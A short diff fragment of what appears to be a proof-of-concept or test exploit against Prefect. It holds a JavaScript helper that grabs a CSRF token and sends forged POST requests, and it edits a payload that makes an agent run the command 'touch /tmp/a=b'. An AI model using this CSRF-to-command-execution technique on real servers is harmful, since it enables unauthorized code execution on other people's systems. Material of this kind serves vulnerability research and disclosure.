@@ -37,7 +37,7 @@ TOKEN_THEN_POST = """async ([url, body]) => {
     const headers = {"Prefect-Csrf-Client": "evil", "Prefect-Csrf-Token": token, "content-type": type}
     return await (await fetch(url, {method: "POST", headers, body})).text()
 }"""
-COMMAND = {"environment": {"agent": {"kind": "command", "command": ["touch", "/tmp/a=b"]}}}
+COMMAND = {"environment": {"agent": {"command": ["touch", "/tmp/a=b"]}}}
 STOLEN = json.dumps({"name": "stolen=run", "parameters": {"config": COMMAND}})
 
 
